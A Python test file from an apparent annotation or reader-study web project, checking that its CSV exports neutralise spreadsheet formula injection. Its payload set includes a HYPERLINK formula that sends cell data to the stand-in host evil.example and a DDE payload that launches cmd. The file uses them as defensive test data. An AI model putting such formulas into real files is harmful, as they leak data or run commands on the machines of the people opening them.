"""No CSV the project writes opens as formulas in a spreadsheet (issue 12, Medium 8: CSV injection).

Free text reaches the exports from readers (flag comments, user names) and coordinators (question texts
and choices): each CSV endpoint is downloaded for a study seeded with formula payloads, and no cell may
begin with = + - @ tab or CR unless it is a plain number.
"""

from __future__ import annotations

import csv
import io

import pytest

from annotations import services
from core.csvsafe import csv_text, safe_cell
from core.roles import READER, user_set_roles
from readerstudy.models import Assignment, StudyStatus
from reports import exports
from tests.conftest import client_for
from tests.reading.factories import study_make

PAYLOADS = {
    "comment": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "text": "@SUM(1+1)*cmd|' /C calc'!A0",
    "choices": ["+yes", "-no", "=maybe", "\tunsure", "\rother"],
    "username": "@mallory",
}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def test_safe_cell():
    assert [safe_cell(v) for v in ["=1+2", "+a", "-a", "@a", "\ta", "\ra"]] == [
        "'=1+2",
        "'+a",
        "'-a",
        "'@a",
        "'\ta",
        "'\na",
    ]
    for v in ["-1", "-0.25", "+3", "1e-05", "-2.5E+3", "-inf", "nan", "a=b", "", "'=x", -1, -0.5, None]:
        assert safe_cell(v) == v
    assert safe_cell("-1+2") == "'-1+2"  # a formula, not a number
    assert safe_cell("a\r\nb\rc") == "a\nb\nc"  # a CR would split the row
    assert csv_text([["=x", -1]], header=["-h"]) == "'-h\n'=x,-1\n"
    assert csv_text([{"a": "@x"}], header=["a"], dicts=True) == "a\n'@x\n"


@pytest.fixture
def seeded(django_user_model, reader):
    mallory = django_user_model.objects.create_user(username=PAYLOADS["username"], password="pw")
    user_set_roles(user=mallory, roles=[READER])
    question = {"key": "q", "text": PAYLOADS["text"], "choices": PAYLOADS["choices"], "applies_to": "all"}
    study = study_make(readers=[reader, mallory], n_cases=2, n_candidates=3, k=1, questions=[question])
    for i, user in enumerate((reader, mallory)):
        assignment = Assignment.objects.get(study=study, reader=user)
        for case in study.cases.order_by("position"):
            ids = list(case.candidates.values_list("pk", flat=True))
            answers = [
                {"question": "q", "candidate": t, "value": PAYLOADS["choices"][(i + j) % 5]}
                for j, t in enumerate([None, *ids])
            ]
            services.answer_submit(
                assignment=assignment,
                case=case,
                payload={"selected": ids[:1], "image_answers": answers},
                client_token=f"token-f-{user.pk}-{case.pk}",
            )
            services.flag_set(assignment=assignment, case=case, comment=PAYLOADS["comment"])
    study.status = StudyStatus.CLOSED
    study.save(update_fields=["status"])
    return study


@pytest.mark.parametrize("fmt", [f for f, (ctype, _) in exports.FORMATS.items() if ctype.startswith("text/csv")])
def test_no_csv_download_holds_a_formula(client, researcher, seeded, fmt):
    response = client_for(client, researcher).get(f"/reports/studies/{seeded.pk}/download/{fmt}/")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    text = response.content.decode()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    dangerous = [c for c in cells if c.startswith(DANGEROUS) and safe_cell(c) != c]
    assert not dangerous, dangerous[:5]
    assert "'@mallory" in cells  # the payloads are there, neutralised (every CSV names its readers)
    if fmt != "imrmc":
        assert ("'" + PAYLOADS["comment"] in cells) == (fmt == "csv")
    if fmt == "questions":
        assert "'" + PAYLOADS["text"] in cells
        assert {safe_cell(c) for c in PAYLOADS["choices"]} <= set(cells)


def test_every_csv_export_goes_through_the_shared_helper():
    """A new CSV writer in a web-facing app must use core.csvsafe (the phantom generator and the PACS import's
    UID-keyed label table rewritten for the ingest write import input, never a download)."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    allowed = {"core/csvsafe.py", "retrieval/imports/phantoms.py", "retrieval/imports/dicomweb.py"}
    writers = [
        str(p.relative_to(root))
        for app in ("core", "retrieval", "readerstudy", "annotations", "reports", "config")
        for p in (root / app).rglob("*.py")
        if ("csv.writer(" in (text := p.read_text()) or "csv.DictWriter(" in text or ".to_csv(" in text)
    ]
    assert sorted(set(writers) - allowed) == []
